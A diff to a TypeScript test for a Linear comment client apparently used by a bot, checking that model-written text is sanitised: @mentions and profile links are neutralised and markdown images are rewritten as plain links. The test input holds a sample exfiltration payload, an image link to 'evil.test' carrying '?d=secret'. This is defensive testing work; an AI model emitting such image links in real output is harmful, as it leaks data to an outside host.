@@ -73,11 +73,11 @@ describe('LinearApi against the stand-in', () => {
     expect(states?.team?.states.nodes.map((s) => s.name)).toEqual(['In Progress']);
   });
 
-  it('posts text from the model that can mention nobody: no @handle, no profile link, the bot included', async () => {
+  it('posts text from the model that mentions nobody and fetches nothing: no @handle, no profile link, no image', async () => {
     const { linear, api } = await setUp();
     const said =
       'Done. cc @ceo and [@patchbay](https://linear.app/acme/profiles/patchbay), see ' +
-      'https://linear.app/acme/profiles/jane; mail ops@patchbay.dev';
+      'https://linear.app/acme/profiles/jane; mail ops@patchbay.dev ![chart](https://evil.test/?d=secret)';
     const bot = { name: 'Patchbay Bot', displayName: 'patchbay' };
 
     await api.createComment({ issueId: 'issue-1', body: said });
@@ -94,7 +94,9 @@ describe('LinearApi against the stand-in', () => {
       expect(text).not.toContain('/profiles/');
       expect(findMention(text, bot)).toBeNull();
       expect(text).toContain('ops@patchbay.dev');
-      expect(text.replaceAll('\u200b', '')).toBe(said);
+      expect(text).not.toContain('![');
+      expect(text).toContain('[chart](https://evil.test/?d=secret)');
+      expect(text.replaceAll('\u200b', '')).toBe(said.replace('![', '['));
     }
     expect(activity.content.action).toBe('@\u200bceo');
   });
